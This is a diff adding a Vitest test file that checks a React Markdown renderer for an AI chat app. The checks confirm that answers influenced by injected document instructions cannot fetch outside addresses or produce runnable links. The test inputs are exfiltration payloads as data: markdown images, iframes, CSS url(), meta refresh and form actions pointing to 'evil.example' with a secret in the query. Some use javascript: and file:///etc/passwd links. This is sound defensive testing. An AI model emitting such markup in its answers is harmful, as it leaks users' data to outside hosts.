@@ -1,0 +1,47 @@
+import { createElement } from 'react';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { I18nextProvider } from 'react-i18next';
+import { describe, expect, it } from 'vitest';
+import { createI18n } from '../app/i18n.ts';
+import { ServicesContext, type Services } from '../app/services.ts';
+import { Markdown } from './markdown.tsx';
+
+const elsewhere = 'https://evil.example/x?q=secret';
+
+/** What stands in the window for an answer, without a browser that would run effects. */
+function shown(text: string): string {
+  const view = createElement(Markdown, { text, streaming: false, cited: new Set([1]), onCite: () => undefined });
+  return renderToStaticMarkup(createElement(I18nextProvider, { i18n: createI18n('en') }, createElement(ServicesContext.Provider, { value: { desktop: null } as Services }, view)));
+}
+
+/** Attributes that make a browser fetch an address by itself (HTML standard, each element's "source" steps). */
+const fetching = /\s(?:src|srcset|poster|background|data|action|formaction|ping|xlink:href)="[^"]*evil|url\([^)]*evil|<(?:link|base|meta|iframe|object|embed|script|image|use)\b/i;
+
+describe('an answer that a document has given orders to', () => {
+  it.each([
+    `![chart](${elsewhere})`,
+    `![chart][ref]\n\n[ref]: ${elsewhere}`,
+    `[![chart](${elsewhere})](${elsewhere})`,
+    `<img src="${elsewhere}" srcset="${elsewhere} 2x">`,
+    `<picture><source srcset="${elsewhere}"><img src="${elsewhere}"></picture>`,
+    `<div style="background:url(${elsewhere})">text</div>`,
+    `<video src="${elsewhere}" poster="${elsewhere}" autoplay></video><audio src="${elsewhere}"></audio>`,
+    `<iframe src="${elsewhere}"></iframe><object data="${elsewhere}"></object><embed src="${elsewhere}">`,
+    `<link rel="stylesheet" href="${elsewhere}"><base href="${elsewhere}"><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
+    `<svg><image href="${elsewhere}"/><use href="${elsewhere}"/></svg>`,
+    `<input type="image" src="${elsewhere}"><form action="${elsewhere}"><button formaction="${elsewhere}">go</button></form>`,
+    `<table background="${elsewhere}"><tr><td background="${elsewhere}">x</td></tr></table>`,
+    `<a href="${elsewhere}" ping="${elsewhere}">x</a><script src="${elsewhere}"></script>`,
+  ])('%s fetches nothing by being read', (text) => {
+    expect(shown(text)).not.toMatch(fetching);
+  });
+
+  it('shows the address of a link, and makes none that runs', () => {
+    expect(shown(`[your bank](${elsewhere})`)).toContain(`title="${elsewhere}"`);
+    for (const address of ['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'hearth://settings']) expect(shown(`[x](${address})`)).not.toMatch(/href="(?!#)/);
+  });
+
+  it('still has its citations', () => {
+    expect(shown('It ends in May [1]. Not [2].')).toMatch(/data-testid="citation"[^>]*>1<\/button>\. Not \[2\]\./);
+  });
+});
